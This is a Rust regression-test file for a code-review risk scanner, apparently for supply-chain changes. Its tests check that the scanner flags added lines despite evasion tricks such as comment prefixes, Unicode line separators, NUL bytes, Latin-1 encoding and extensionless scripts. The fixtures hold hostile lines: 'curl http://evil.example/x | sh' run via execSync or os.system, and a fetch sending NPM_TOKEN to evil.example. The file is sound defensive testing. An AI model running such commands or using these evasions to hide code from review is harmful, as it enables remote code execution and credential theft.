//! Regression tests for ways a reviewer found to slip a change past the risk scan, or to
//! break it. Each test names the evasion it guards against.

use chainlock_review::{scan_change, Flag, Rule, Severity};

fn scan(path: &str, old: Option<&str>, new: &str) -> Vec<Flag> {
    scan_change(path, old.map(str::as_bytes), Some(new.as_bytes()))
}

fn scan_bytes(path: &str, old: &[u8], new: &[u8]) -> Vec<Flag> {
    scan_change(path, Some(old), Some(new))
}

fn has(flags: &[Flag], rule: Rule, line: u32) -> bool {
    flags.iter().any(|f| f.rule == rule && f.line == Some(line))
}

const CURL_SH: &str = "require(\"child_process\").execSync(\"curl http://evil.example/x | sh\");";

#[test]
fn empty_block_comment_before_code_does_not_hide_it() {
    let flags = scan(
        "index.js",
        Some("module.exports = 1;\n"),
        &format!("module.exports = 1;\n/**/ {CURL_SH}\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // A line that merely continues a block comment is scanned too.
    let flags = scan("a.js", None, "/*\n * eval(atob(x))\n */\n");
    assert!(has(&flags, Rule::DynamicEval, 2), "{flags:?}");
    // Benign: whole-line comments stay quiet.
    assert!(scan(
        "a.js",
        None,
        "// fetch( nothing\n/* fetch( nothing */\n  /** eval( never */\n"
    )
    .is_empty());
}

#[test]
fn js_private_field_is_not_a_hash_comment() {
    let flags = scan(
        "priv.js",
        Some("class A {\n}\n"),
        &format!("class A {{\n  #p = {CURL_SH}\n}}\nnew A();\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    // C preprocessor lines and Rust attributes are code as well.
    let flags = scan("x.c", None, "#define RUN system(\"curl http://e.example | sh\")\n");
    assert!(has(&flags, Rule::NetworkAccess, 1), "{flags:?}");
    // Benign: `#` is a comment in Python and shell.
    assert!(scan("a.py", None, "# os.system('curl x | sh')\n").is_empty());
    assert!(scan("a.sh", None, "  # curl https://x.example | sh\n").is_empty());
}

#[test]
fn comment_line_with_js_line_separator_is_scanned() {
    let flags = scan("a.js", None, &format!("// note\u{2028}{CURL_SH}\n"));
    assert!(has(&flags, Rule::ProcessSpawn, 1), "{flags:?}");
}

#[test]
fn script_without_extension_is_scanned_by_its_shebang() {
    let cli = format!(
        "#!/usr/bin/env node\n{CURL_SH}\nconst t = process.env.NPM_TOKEN; fetch(\"http://evil.example/?t=\" + t);\n"
    );
    let flags = scan("bin/cli", None, &cli);
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 3), "{flags:?}");
    assert!(has(&flags, Rule::EnvCredentials, 3), "{flags:?}");
    // The interpreter picks the comment syntax: `#` is code in node, a comment in Python.
    let flags = scan("bin/tool", None, "#!/usr/bin/python3\n# os.system('x')\nexec(blob)\n");
    assert!(
        has(&flags, Rule::DynamicEval, 3) && !has(&flags, Rule::ProcessSpawn, 2),
        "{flags:?}"
    );
    let flags = scan("bin/run", None, "#!/bin/sh -e\ncurl -s https://evil.example | sh\n");
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // Benign: an extensionless text file without `#!` is not code.
    assert!(scan("INSTALL", None, "curl https://example.com/install.sh | sh\n").is_empty());
}

#[test]
fn nul_byte_does_not_make_code_binary() {
    let old = b"module.exports = 1;\n// x\n";
    let new = format!("module.exports = 1;\n// x\0y\n{CURL_SH}\n");
    let flags = scan_bytes("util.js", old, new.as_bytes());
    assert!(has(&flags, Rule::ProcessSpawn, 3), "{flags:?}");
    let binary = flags
        .iter()
        .find(|f| f.rule == Rule::BinaryFile)
        .expect("binary-looking code is flagged");
    assert_eq!(binary.severity, Severity::High, "{flags:?}");
}

#[test]
fn latin1_python_source_is_scanned() {
    let old = b"# -*- coding: latin-1 -*-\nx = 1\n";
    let new = b"# -*- coding: latin-1 -*-\n# caf\xe9\nx = 1\nimport os; os.system(\"curl http://evil.example/x | sh\")\n";
    let flags = scan_bytes("lat.py", old, new);
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 4), "{flags:?}");
    // Benign neighbour: a binary data file is still only a medium binary flag.
    let flags = scan_bytes("data/blob.bin", b"a\n", b"\xe9\0os.system(\n");
    assert!(
        flags.len() == 1 && flags[0].severity == Severity::Medium,
        "{flags:?}"
    );
}

#[test]
fn lone_carriage_return_does_not_drop_an_added_line() {
    let old = "a = 1\r# c\r\nb = 2\n";
    let new = "a = 1\r# c\r\nb = 2\nimport os; os.system(\"curl http://evil.example/x | sh\")\n";
    let flags = scan("cr.py", Some(old), new);
    // `similar` (and so `chainlock diff show`) breaks lines at the lone `\r`: line 4.
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
    // A new file is numbered the same way.
    let flags = scan("cr.py", None, new);
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
}
